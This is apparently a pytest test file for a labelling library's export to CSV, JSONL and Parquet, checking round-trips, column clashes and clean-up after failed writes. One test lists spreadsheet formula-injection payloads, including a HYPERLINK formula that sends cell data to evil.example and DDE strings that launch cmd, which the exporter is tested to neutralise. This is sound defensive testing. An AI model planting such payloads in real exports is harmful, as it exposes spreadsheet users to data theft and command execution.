"""Data out is faithful and safe: ``session.export`` to CSV, JSONL and Parquet (issue 11)."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
import textwrap
from contextlib import closing
from pathlib import Path

import pandas as pd
import pytest

from llmlabel_widget import LabelTask, Session

BACKENDS = ("sqlite", "postgres")  # conftest runs each store test on both

READERS = {
    "jsonl": lambda p: pd.read_json(p, lines=True, dtype=False),
    "csv": lambda p: pd.read_csv(p, dtype=str, keep_default_na=False),
    "parquet": pd.read_parquet,
}


def csv_rows(path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def leftovers(directory) -> list[str]:
    return sorted(p.name for p in directory.iterdir() if p.name.endswith(".tmp"))


def test_multi_label_csv_cells_stay_unambiguous_when_a_label_contains_a_separator(db, tmp_path):
    labels = ["a|b", "a", "b", "c, d", 'say "no"']
    task = LabelTask(labels=labels, multi_label=True)
    data = pd.DataFrame(
        {"id": [f"i{n}" for n in range(6)], "text": [f"item {n}" for n in range(6)]}
    )
    chosen = {
        "i0": ["a|b"],
        "i1": ["a", "b"],  # the old "|"-joined cell could not tell these two apart
        "i2": ["c, d", 'say "no"'],
        "i3": [],  # reviewed: no label applies, which is not the same as undecided
    }
    with closing(Session.open(db, data=data, task=task)) as s:
        for item, chosen_labels in chosen.items():
            s.decide(item, chosen_labels, annotator="alice")
        out = s.export(tmp_path / "labels.csv")
    rows = {r["item_id"]: r for r in csv_rows(out)}
    for item, chosen_labels in chosen.items():
        assert json.loads(rows[item]["label"]) == chosen_labels, rows[item]["label"]
    assert rows["i3"]["label"] == "[]"
    assert rows["i4"]["label"] == ""  # not decided: no value at all
    assert json.loads(rows["i0"]["context"] or "null") is None


@pytest.mark.parametrize("ext", ["jsonl", "csv", "parquet"])
def test_text_with_line_breaks_round_trips(db, tmp_path, ext):
    texts = ["old Mac line\rbreak", "Windows\r\nline", "unix\nline", "plain"]
    data = pd.DataFrame({"id": ["a", "b", "c", "d"], "text": texts})
    with closing(Session.open(db, data=data, task=LabelTask(labels=["x", "y"]))) as s:
        s.decide("d", "y", annotator="alice")
        back = READERS[ext](s.export(tmp_path / f"labels.{ext}"))
    assert back["item_id"].tolist() == ["a", "b", "c", "d"]
    assert back["text"].tolist() == texts
    assert back["label"].tolist()[-1] == "y"


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(db, tmp_path):
    texts = [*FORMULAS, "plain text", "-3", "+1.5"]
    data = pd.DataFrame(
        {
            "id": [f"i{n}" for n in range(len(texts))],
            "text": texts,
            "source": ["=cmd|' /C notepad'!A0", *["web"] * (len(texts) - 1)],
            "=evil": ["x"] * len(texts),  # a column name is a cell too
        }
    )
    task = LabelTask(labels=["@mention", "other"])
    with closing(Session.open(db, data=data, task=task)) as s:
        s.decide("i0", "@mention", annotator="=alice")
        csv_out = s.export(tmp_path / "labels.csv")
        jsonl = READERS["jsonl"](s.export(tmp_path / "labels.jsonl"))
    rows = csv_rows(csv_out)
    assert "'=evil" in rows[0]
    got = {r["item_id"]: r for r in rows}
    for n, text in enumerate(FORMULAS):
        assert got[f"i{n}"]["text"] == "'" + text
    assert got["i6"]["text"] == "plain text"
    assert (got["i7"]["text"], got["i8"]["text"]) == ("-3", "+1.5")  # numbers, not formulas
    assert got["i0"]["source"] == "'=cmd|' /C notepad'!A0"
    assert (got["i0"]["label"], got["i0"]["annotator"]) == ("'@mention", "'=alice")
    # no cell of the file starts a formula
    cells = [c for r in rows for c in r.values()] + list(rows[0])
    risky = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert risky == ["-3", "+1.5"]
    # JSONL keeps the values as they are
    assert jsonl["text"].tolist() == texts
    assert jsonl.loc[0, "label"] == "@mention"


@pytest.mark.parametrize("ext", ["jsonl", "csv", "parquet"])
def test_a_data_column_named_like_an_output_column_is_kept_not_dropped(db, tmp_path, ext):
    data = pd.DataFrame(
        {
            "id": ["i0", "i1", "i2"],
            "text": ["first", "second", "third"],
            "label": ["pos", "neg", "pos"],  # e.g. an earlier gold label
            "state": ["CA", "NY", "TX"],
            "meta_label": ["kept", "as", "is"],
            "llm_label": ["x", "y", "z"],
        }
    )
    with closing(Session.open(db, data=data, task=LabelTask(labels=["pos", "neg"]))) as s:
        s.decide("i1", "pos", annotator="alice")
        ann = s.annotations
        back = READERS[ext](s.export(tmp_path / f"labels.{ext}")).set_index("item_id")
    for frame in (ann.set_index("item_id"), back):
        assert frame["meta_meta_label"].tolist() == ["pos", "neg", "pos"]
        assert frame["meta_state"].tolist() == ["CA", "NY", "TX"]
        assert frame["meta_label"].tolist() == ["kept", "as", "is"]
        assert frame["meta_llm_label"].tolist() == ["x", "y", "z"]
        assert frame.loc["i1", "label"] == "pos"  # the reviewer's decision
        assert frame.loc["i1", "state"] == "decided"
        assert frame["state"].tolist().count("pending") == 2


@pytest.mark.sqlite_only  # reads the SQLite file itself
def test_an_export_that_runs_out_of_space_leaves_no_temporary_file(session, tmp_path):
    # A real short write: the OS refuses to let the file grow past 16 KB (RLIMIT_FSIZE),
    # as a full disk would, in the middle of writing the CSV.
    for i in session.next_items(5):
        session.decide(i, "agree", annotator="alice")
    out = tmp_path / "out"
    out.mkdir()
    dest = out / "labels.csv"
    dest.write_text("the previous export\n")
    script = textwrap.dedent(
        f"""
        import resource, signal
        from llmlabel_widget import Session
        s = Session.open({str(session.store.path)!r})
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (16_000, resource.RLIM_INFINITY))
        try:
            s.export({str(dest)!r})
        except OSError as e:
            print("failed:", e.strerror)
        """
    )
    done = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, timeout=120, check=False
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("failed: File too large"), done.stdout
    assert leftovers(out) == []
    assert dest.read_text() == "the previous export\n"
    assert session.export(dest).stat().st_size > 16_000  # and it works without the limit


@pytest.mark.parametrize(
    ("ext", "writer", "error"),
    [
        ("jsonl", "to_json", OSError(28, "No space left on device")),
        ("csv", "to_csv", OSError(28, "No space left on device")),
        ("parquet", "to_parquet", OSError(28, "No space left on device")),
        ("csv", "to_csv", KeyboardInterrupt()),
    ],
)
def test_a_failed_export_leaves_no_temporary_file(
    session, tmp_path, monkeypatch, ext, writer, error
):
    def half_then_fail(self, path, *args, **kwargs):
        Path(path).write_text("half a file")
        raise error

    out = tmp_path / "out"
    out.mkdir()
    monkeypatch.setattr(pd.DataFrame, writer, half_then_fail)
    with pytest.raises(type(error)):
        session.export(out / f"labels.{ext}")
    assert list(out.iterdir()) == []


def test_export_to_a_missing_directory_says_so(session, tmp_path):
    with pytest.raises(FileNotFoundError, match=r"no directory .*missing"):
        session.export(tmp_path / "missing" / "labels.csv")
    assert leftovers(tmp_path) == []


def test_a_failed_report_leaves_no_temporary_file(session, tmp_path, monkeypatch):
    for i in session.next_items(5):
        session.decide(i, "agree", annotator="alice")
    out = tmp_path / "out"
    out.mkdir()
    real_write_text = Path.write_text

    def half_then_fail(self, data, *args, **kwargs):
        real_write_text(self, data[:100], *args, **kwargs)
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Path, "write_text", half_then_fail)
    with pytest.raises(OSError, match="No space"):
        session.report(out / "quality.html")
    assert list(out.iterdir()) == []
